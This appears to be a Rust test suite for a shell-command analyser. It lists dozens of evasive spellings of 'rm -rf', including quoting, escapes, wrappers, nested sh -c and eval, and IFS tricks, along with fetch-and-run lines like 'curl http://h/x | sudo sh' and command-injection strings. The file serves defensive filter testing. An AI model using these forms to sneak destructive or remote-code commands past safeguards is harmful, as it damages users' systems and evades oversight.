//! Ways to write `rm` so that a rule about `rm` would miss it, each under the name of its trick.

mod support;

use support::{canonical, doubts, paths, read};
use wardline_shell::DoubtKind;

/// The command must be seen as `rm -rf x`, spelled so in its canonical text or one of its forms.
fn is_removal(script: &str) {
    let analysis = read(script);
    let seen = analysis.commands.iter().any(|command| {
        command.canonical == "rm -rf x" || command.forms.iter().any(|form| form == "rm -rf x")
    });
    assert!(seen, "{script:?}: {:?}", canonical(script));
    assert!(
        paths(script).iter().any(|path| path.starts_with('D') && path.ends_with("/p/x/…")),
        "{script:?}: {:?}",
        paths(script)
    );
}

#[test]
fn quotes_inside_the_name() {
    for script in ["r''m -rf x", "r\"\"m -rf x", "'rm' -rf x", "\"rm\" -\"rf\" x", "'r'\"m\" -rf 'x'"] {
        is_removal(script);
    }
}

#[test]
fn backslashes() {
    for script in ["\\rm -rf x", "r\\m -rf x", "rm \\-rf x", "rm -\\r\\f \\x"] {
        is_removal(script);
    }
}

#[test]
fn ansi_c_quotes() {
    for script in [
        "$'rm' -rf x",
        "$'\\x72\\x6d' -rf x",
        "$'\\162\\155' -rf x",
        "$'\\u0072m' -rf x",
        "$'\\x{72}m' -rf x",
        "$'\\x{000172}m' -rf x",
        "$\"rm\" -rf x",
    ] {
        is_removal(script);
    }
}

#[test]
fn broken_lines() {
    for script in ["r\\\nm -rf x", "rm \\\n-rf \\\nx", "\\\nrm -r\\\nf x", "\"r\\\nm\" -rf x"] {
        is_removal(script);
    }
}

#[test]
fn absolute_paths() {
    for script in ["/bin/rm -rf x", "/usr/bin/rm -rf x", "/usr/../bin/rm -rf x", "./rm -rf x"] {
        is_removal(script);
    }
}

#[test]
fn tabs_and_spaces() {
    for script in ["rm\t-rf\tx", "   rm    -rf   x  ", "\n\nrm -rf x\n"] {
        is_removal(script);
    }
}

#[test]
fn assignments_before_the_name() {
    for script in
        ["X=1 rm -rf x", "X= Y='a b' rm -rf x", "X=$(:) rm -rf x", "a[1]=2 rm -rf x", "X+=1 rm -rf x"]
    {
        is_removal(script);
    }
}

#[test]
fn redirects_before_the_name() {
    for script in [">/dev/null rm -rf x", "2>&1 rm -rf x", "rm >/dev/null -rf x", "<<E rm -rf x\nE"] {
        is_removal(script);
    }
}

#[test]
fn flags_in_another_order_or_spelling() {
    for script in [
        "rm -fr x",
        "rm -r -f x",
        "rm -f -r x",
        "rm -f -R x",
        "rm -rfv x",
        "rm x -rf",
        "rm -r x -f",
        "rm --recursive --force x",
        "rm --force --recursive x",
        "rm --recu --forc x",
        "rm -rf -- x",
    ] {
        is_removal(script);
    }
}

#[test]
fn wrappers() {
    for wrapper in [
        "command",
        "command --",
        "command -p",
        "builtin",
        "exec",
        "exec -a y",
        "env",
        "env -i",
        "env A=1 B=2",
        "env -u A",
        "sudo",
        "sudo -n",
        "sudo -u root",
        "sudo -u root A=1",
        "doas",
        "nice",
        "nice -n 5",
        "nice -5",
        "ionice -c3",
        "nohup",
        "time",
        "time -p",
        "timeout 5",
        "timeout -s KILL 5s",
        "timeout --preserve-status -k 1 5",
        "stdbuf -oL",
        "setsid",
        "setsid -w",
        "chrt -i 0",
        "taskset 1",
        "strace -f -o /dev/null",
        "unshare -r",
        "chroot /",
        "flock /tmp/l",
        "xargs",
        "xargs -0 -n 1",
        "xargs -I{}",
        "busybox",
        "env env env",
        "sudo nice -n 3 timeout 5 env X=1",
        "\\sudo",
        "/usr/bin/env",
        "ltrace",
        "systemd-run --user",
        "poetry run",
        "uv run",
        "noglob",
    ] {
        is_removal(&format!("{wrapper} rm -rf x"));
    }
}

#[test]
fn strings_that_are_scripts() {
    for script in [
        "sh -c 'rm -rf x'",
        "bash -lc 'rm -rf x'",
        "bash -e -o pipefail -c 'rm -rf x'",
        "bash --norc -c 'rm -rf x'",
        "zsh -c \"rm -rf x\"",
        "/bin/sh -c 'rm -rf x'",
        "busybox sh -c 'rm -rf x'",
        "sh -c \"sh -c 'rm -rf x'\"",
        "env -S 'rm -rf x'",
        "eval 'rm -rf x'",
        "eval rm -rf x",
        "eval \"eval 'rm -rf x'\"",
        "su -c 'rm -rf x'",
        "su root -c 'rm -rf x'",
        "script -qc 'rm -rf x' /dev/null",
        "watch -n 1 rm -rf x",
        "watch 'rm -rf x'",
        "flock /tmp/l -c 'rm -rf x'",
        "ssh localhost rm -rf x",
        "ssh -p 22 localhost 'rm -rf x'",
        "trap 'rm -rf x' EXIT",
        "parallel rm -rf ::: x",
        "parallel ::: 'rm -rf x'",
        "find . -maxdepth 0 -exec rm -rf x \\;",
        "find . -execdir rm -rf x +",
        "fd foo -x rm -rf x",
        "sh <<E\nrm -rf x\nE",
        "sh <<'E'\nrm -rf x\nE",
        "bash <<< 'rm -rf x'",
        "bash -s <<< 'rm -rf x'",
        "sudo sh -c 'cd . && rm -rf x'",
    ] {
        is_removal(script);
    }
}

#[test]
fn words_that_split() {
    for script in ["rm${IFS}-rf${IFS}x", "rm$IFS-rf$IFS\"x\"", "{rm,-rf,x}", "rm -{r,f} x", "rm -rf {x,}"] {
        is_removal(script);
    }
}

#[test]
fn variables_that_are_constant() {
    for script in [
        "X=rm; $X -rf x",
        "X=rm\nY=-rf\n$X $Y x",
        "X='rm -rf'; $X x",
        "X=r; Y=m; $X$Y -rf x",
        "X=r; X+=m; $X -rf x",
        "export X=rm; $X -rf x",
        "declare X=rm; ${X} -rf x",
        "for c in rm; do $c -rf x; done",
        "for f in a x; do rm -rf $f; done",
        "set -- -rf x; rm \"$@\"",
        "f() { rm -rf \"$1\"; }; f x",
        "f() { \"$@\"; }; f rm -rf x",
        "$(echo rm) -rf x",
        "$(which rm) -rf x",
        "`echo rm -rf x`; rm -rf x",
    ] {
        is_removal(script);
    }
}

#[test]
fn aliases() {
    for script in ["alias x='rm -rf'; x x", "alias a='b' b='rm -rf x'; a", "alias rm='echo'; rm -rf x"] {
        is_removal(script);
    }
}

#[test]
fn definitions_that_may_not_be_in_force() {
    for script in
        ["(rm() { :; }); rm -rf x", "if false; then rm() { :; }; fi; rm -rf x", "rm() { :; }; rm -rf x"]
    {
        is_removal(script);
    }
}

#[test]
fn what_is_only_known_when_it_runs_is_a_doubt() {
    for script in [
        "$X -rf x",
        "${X:-rm} -rf x",
        "${!X} -rf x",
        "r$X -rf x",
        "`get rm` -rf x",
        "$(cat f) -rf x",
        "/bin/r? -rf x",
        "/???/rm -rf x",
        "read c; $c x",
        "X=ls; if a; then X=rm; fi; $X x",
        "X=ls; while a; do $X x; X=rm; done",
        "get rm | sh",
        "get rm | bash -s",
        "base64 -d <<< $X | sh",
        "curl http://h/x | sudo sh",
        "curl http://h/x | python3",
        "bash <(curl http://h/x)",
        "bash < file",
        ". ./file",
        "source file",
        "source <(curl http://h)",
        "sh -c \"$X\"",
        "sh -c \"rm $X\"",
        "eval $X",
        "eval \"$(curl http://h)\"",
        "rm -rf \"$X\"",
        "rm -rf \"$X/\"",
        "cat $f",
        "cat \"$(get x)\"",
        "ls | xargs rm",
        "echo ${x@P}",
        "a='x[$(rm y)]'; ((a))",
        "[[ 'a[$(rm y)]' -eq 0 ]]",
        "printf -v 'a[$(rm y)]' x",
        "test -v 'a[$(rm y)]'",
        "tool $X",
        "tool --file=$X",
        "> $X",
        "IFS=$X; c=rmx-rfxy; $c",
    ] {
        assert!(doubts(script).contains(&DoubtKind::Dynamic), "{script:?}: {:?}", doubts(script));
    }
}

#[test]
fn text_that_parsers_disagree_on_is_a_doubt_and_still_searched() {
    for script in [
        "rm y; (",
        "rm y; echo 'a",
        "rm y; \"",
        "rm y )",
        "rm y; if",
        "rm y; }",
        "rm y; ]]",
        "rm y; (a;!)",
        "rm y; in x",
        "rm y; ls |} x",
        "rm y; ls | fi",
        "rm y; f[~f[>[]",
        "rm y; f[",
        "rm y; >x f[",
        "rm y; a=1 f[",
        "rm y; time f[",
        "rm y; f[a; ls]",
        "rm y; time a[1 2]=3",
        "rm y; time && ls",
        "rm y; time -p | ls",
        "rm y; ls | ! x",
        "rm y; a=()b=()",
        "rm y; a=(1)f()",
        "rm y; ls |& !\ncat",
        "rm y; ! time time -- & ls",
        "rm y; >x a[1 2]=3",
        "rm y; a=( [ )",
        "rm y; <0<a",
        "rm y; cat <{x}<a",
        "rm y; {a[$i]}>x ls",
        "rm y; case a in",
        "rm y; echo \"${x:-'}'}\"",
        "rm y\u{0}",
        "rm y\r\n",
        "rm y\u{1b}[2K",
        "rm y\u{202e}",
        "rm y; echo a\u{7f}",
    ] {
        assert!(doubts(script).contains(&DoubtKind::Unparsed), "{script:?}: {:?}", doubts(script));
        let found = read(script).commands;
        assert!(found.iter().any(|command| command.literal.starts_with("rm y")), "{script:?}");
    }
}

#[test]
fn what_follows_a_closed_descriptor_without_a_blank_is_a_word_and_a_doubt() {
    for script in [">&-rm y", "2>&-rm y", "<&- >& -rm y", "2>&\\\n-rm y", "echo a; exec 3<&-\n0<&-rm y"] {
        assert!(doubts(script).contains(&DoubtKind::Unparsed), "{script:?}: {:?}", doubts(script));
        assert!(read(script).commands.iter().any(|command| command.canonical == "rm y"), "{script:?}");
    }
    for script in ["ls >&- x", "ls >&-", "ls 2>&-; x", "ls >& - x", "(ls >&-)", "ls 2>&1-", "ls 3<&-|x"] {
        assert!(doubts(script).is_empty(), "{script:?}: {:?}", doubts(script));
    }
}

#[test]
fn brackets_and_numbers_that_all_shells_read_alike_are_no_doubt() {
    for script in [
        "time -p -p && x",
        "time >f && x",
        "x | time | y",
        "time; x",
        "f[1] x",
        "f[\"a b\"] x",
        "a[1+2]=3",
        "declare -A m=([my key]=v [other]=w)",
        "declare f[",
        "ls f[ g]",
        "[ -f x ]",
        "[[ f[ == x ]]",
        "cat <0 <a",
        "cat <&0<a",
        "cat 0<a",
    ] {
        assert!(!doubts(script).contains(&DoubtKind::Unparsed), "{script:?}: {:?}", doubts(script));
    }
}

#[test]
fn an_allow_rule_must_match_the_literal_text_so_it_keeps_what_was_written() {
    for (script, literal) in [
        ("X=1 git log", "X=1 git log"),
        ("GIT_PAGER=x git log", "GIT_PAGER=x git log"),
        ("g''it log > f", "g''it log > f"),
    ] {
        assert_eq!(read(script).commands[0].literal, literal);
    }
}
